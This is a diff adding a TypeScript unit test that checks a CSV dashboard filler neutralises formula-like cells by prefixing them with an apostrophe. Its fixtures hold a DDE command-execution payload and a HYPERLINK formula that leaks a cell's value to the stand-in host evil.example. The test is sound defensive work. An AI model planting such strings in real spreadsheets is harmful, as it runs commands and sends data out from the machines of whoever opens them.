@@ -136,3 +136,42 @@ describe('filling the dashboard file: only Carrier and Tracking Number change', 
     )
   })
 })
+
+describe('filling the dashboard file with numbers from other files: formulas neutralised', () => {
+  const hostile = new Map<number, OrderFloorState>([
+    [
+      rows[0]!.order.id,
+      {
+        ...blankFloorState(rows[0]!.order.id),
+        carrier: '@SUM(1+1)*cmd|" /C calc"!A0',
+        trackingNumbers: ['=HYPERLINK("http://evil.example/?"&A1,"Track")'],
+      },
+    ],
+    [rows[1]!.order.id, { ...blankFloorState(rows[1]!.order.id), trackingNumbers: ['+1234'] }],
+    [
+      rows[3]!.order.id,
+      { ...blankFloorState(rows[3]!.order.id), carrier: 'UPS', trackingNumbers: ['-A1', '1Z9'] },
+    ],
+  ])
+
+  it('prefixes a written cell that starts like a formula; signed digits hold nothing to run', () => {
+    const input = dashboardText(',', '\r\n')
+    const result = fillDashboardFile(Buffer.from(input, 'utf8'), 'c.csv', rows, hostile)
+    const output = decodeCsv(result.bytes).text
+    const filled = parseCsv(output, ',')
+
+    expect(filled[1]!.fields[CARRIER]!.value).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
+    expect(filled[1]!.fields[TRACKING]!.value).toBe(
+      `'=HYPERLINK("http://evil.example/?"&A1,"Track")`,
+    )
+    expect(filled[2]!.fields[TRACKING]!.value).toBe('+1234')
+    // A cell reference is no number: prefixed, and the second parcel stays beside it.
+    expect(filled[4]!.fields[TRACKING]!.value).toBe(`'-A1, 1Z9`)
+    // Every other cell byte for byte, names with quotes and line breaks included.
+    expect(revertFilled(input, output, ',')).toBe(input)
+    // Neutralised once: a second fill of the filled file finds nothing to change.
+    const again = fillDashboardFile(result.bytes, 'c.csv', rows, hostile)
+    expect(again.bytes.equals(result.bytes)).toBe(true)
+    expect(again).toMatchObject({ filled: 0, unchanged: 3 })
+  })
+})
